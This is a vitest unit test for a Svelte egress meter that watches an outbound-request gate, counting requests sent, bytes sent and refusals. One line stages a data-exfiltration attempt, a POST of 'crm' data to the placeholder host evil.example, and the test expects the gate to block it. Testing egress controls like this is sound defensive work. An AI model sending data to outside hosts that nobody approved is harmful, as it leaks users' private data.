import { flushSync } from 'svelte';
import { describe, expect, it } from 'vitest';
import { EgressGate } from '../../net/egress.ts';
import { EgressMeterState } from './egress-meter.svelte.ts';

describe('EgressMeterState', () => {
  it('follows the gate’s log, including what was logged before it started', async () => {
    const gate = new EgressGate('https://sift.example', async () => new Response('ok'));
    await gate.fetch('/index.html');
    const meter = new EgressMeterState(gate);
    const stop = meter.start();
    expect(meter.summary.requestsOut).toBe(0);
    await expect(gate.fetch('https://evil.example/x', { method: 'POST', body: 'crm' })).rejects.toThrow();
    gate.allow('https://api.groq.com', 'fallback');
    await gate.fetch('https://api.groq.com/openai/v1/chat/completions', { method: 'POST', body: '{"a":1}' });
    flushSync();
    expect(meter.summary).toMatchObject({ requestsOut: 1, bytesOut: 7, refused: 1 });
    stop();
    await gate.fetch('https://api.groq.com/again');
    expect(meter.records).toHaveLength(3);
  });
});
